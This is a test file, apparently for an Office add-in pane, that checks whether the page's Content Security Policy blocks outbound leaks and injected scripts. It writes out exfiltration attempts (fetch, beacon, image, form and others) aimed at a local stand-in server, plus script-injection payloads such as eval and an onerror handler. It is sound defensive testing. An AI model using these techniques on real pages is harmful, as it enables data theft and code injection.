import { once } from 'node:events';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';

import { eventually } from '../../support/eventually';
import { openPaneRoom, type OpenPane, type PaneRoom } from '../../support/pane-desk/open-pane-room';

/** Somebody else's server; it takes everything. */
const received: string[] = [];
const stranger = createServer((request, response) => {
  if (request.url !== undefined && request.url !== '/favicon.ico') received.push(request.url);
  response.writeHead(200, { 'Access-Control-Allow-Origin': '*', 'Content-Type': 'text/javascript' }).end('');
});
let elsewhere = '';
let room: PaneRoom;
let pane: OpenPane;

beforeAll(async () => {
  stranger.listen(0, '127.0.0.1');
  await once(stranger, 'listening');
  elsewhere = `http://127.0.0.1:${(stranger.address() as AddressInfo).port}`;
  room = await openPaneRoom();
  pane = await room.openPane();
});
beforeEach(() => {
  received.length = 0;
});
afterAll(async () => {
  await room.close();
  stranger.closeAllConnections();
  stranger.close();
});

/** Ways to send a ledger to somebody else, each under the directive that stands against it. */
const leaks: Readonly<Record<string, readonly [directive: string, attempt: (address: string) => unknown]>> = {
  fetch: ['connect-src', (address) => fetch(`${address}/fetch`).catch(() => undefined)],
  'an XMLHttpRequest': [
    'connect-src',
    (address) => {
      const request = new XMLHttpRequest();
      request.open('POST', `${address}/xhr`);
      request.send('ledger');
    },
  ],
  'a beacon': ['connect-src', (address) => navigator.sendBeacon(`${address}/beacon`, 'ledger')],
  'an event source': ['connect-src', (address) => new EventSource(`${address}/events`)],
  'an image': ['img-src', (address) => document.body.append(Object.assign(new Image(), { src: `${address}/image.png` }))],
  'a script': [
    'script-src-elem',
    (address) => {
      const script = document.createElement('script');
      script.src = `${address}/script.js`;
      document.head.append(script);
    },
  ],
  'a style sheet': [
    'style-src-elem',
    (address) => {
      const link = Object.assign(document.createElement('link'), { rel: 'stylesheet', href: `${address}/style.css` });
      document.head.append(link);
    },
  ],
  'a font': ['font-src', (address) => new FontFace('leak', `url(${address}/font.woff2)`).load().catch(() => undefined)],
  'a frame': [
    'frame-src',
    (address) => {
      const frame = document.createElement('iframe');
      frame.src = `${address}/frame`;
      document.body.append(frame);
    },
  ],
  'a form': [
    'form-action',
    (address) => {
      const form = Object.assign(document.createElement('form'), { action: `${address}/form`, method: 'post', target: '_blank' });
      document.body.append(form);
      form.submit();
    },
  ],
  'an object': [
    'object-src',
    (address) =>
      // Every browser shows a page in an object; a .pdf is not even asked for where nothing can show it.
      document.body.append(Object.assign(document.createElement('object'), { data: `${address}/object.html`, type: 'text/html' })),
  ],
};

declare global {
  /** What a test left in the page to be run there. */
  var attempted: ((address: string) => unknown) | undefined;
}

/** Runs a function in the page itself, not in the tools of the test, whose scripts no policy binds. */
async function attempt({ frame }: OpenPane, work: (address: string) => unknown): Promise<void> {
  await frame.evaluate(`globalThis.attempted = ${work.toString()}`);
  await frame.evaluate(
    (address) =>
      new Promise<void>((resolve) => {
        setTimeout(() => {
          setTimeout(resolve);
          globalThis.attempted?.(address);
        });
      }),
    elsewhere,
  );
}

/** Under which directives a function is refused; the browser tells in its own time. */
async function refusals(open: OpenPane, work: (address: string) => unknown): Promise<string[]> {
  const before = open.violations.length;
  await attempt(open, work);
  await eventually(() => expect(open.violations.length).toBeGreaterThan(before));
  return open.violations.slice(before).map((violation) => violation.split(' ')[0] ?? '');
}

describe('the security policy of the built page', () => {
  it('is in nobody’s way: the page starts with the real office.js, without a refusal or an error', async () => {
    await pane.pane.locator('[role=status], [role=tablist]').first().waitFor();
    expect([pane.violations, pane.errors]).toEqual([[], []]);
    expect(pane.requests.filter((address) => !address.startsWith(`${room.url}/`))).toEqual([]);
  });

  it.each(Object.keys(leaks))('lets nothing out by %s', async (way) => {
    const [directive, work] = leaks[way] ?? ['', () => undefined];
    expect(await refusals(pane, work)).toEqual([directive]);
    expect(received).toEqual([]);
  });

  it('is what stops them: without it all of them get through', async () => {
    const open = await room.openPane({ bypassPolicy: true });
    for (const [, work] of Object.values(leaks)) await attempt(open, work);
    await eventually(() =>
      expect(new Set(received)).toEqual(
        new Set([
          '/fetch',
          '/xhr',
          '/beacon',
          '/events',
          '/image.png',
          '/script.js',
          '/style.css',
          '/font.woff2',
          '/frame',
          '/form',
          '/object.html',
        ]),
      ),
    );
  });

  it('runs no text as a script', async () => {
    const texts: (() => unknown)[] = [
      () => (globalThis as unknown as { eval(text: string): unknown }).eval('document.title = "run"'),
      () => (Reflect.construct(Function, ['document.title = "run"']) as () => unknown)(),
      () => setTimeout('document.title = "run"' as unknown as () => void),
      () => document.body.append(Object.assign(document.createElement('script'), { textContent: 'document.title = "run"' })),
      () => document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="document.title = \'run\'">'),
    ];
    for (const work of texts)
      expect((await refusals(pane, work)).map((directive) => directive.split('-', 2).join('-'))).toEqual(['script-src']);
    expect(await pane.frame.title()).toBe('应收管家');
  });

  it('takes no style sheet as text, nor another base for addresses', async () => {
    expect(
      await refusals(pane, () =>
        document.head.append(Object.assign(document.createElement('style'), { textContent: 'body { color: red }' })),
      ),
    ).toEqual(['style-src-elem']);
    expect(
      await refusals(pane, (address) => document.head.append(Object.assign(document.createElement('base'), { href: `${address}/` }))),
    ).toEqual(['base-uri']);
  });
});
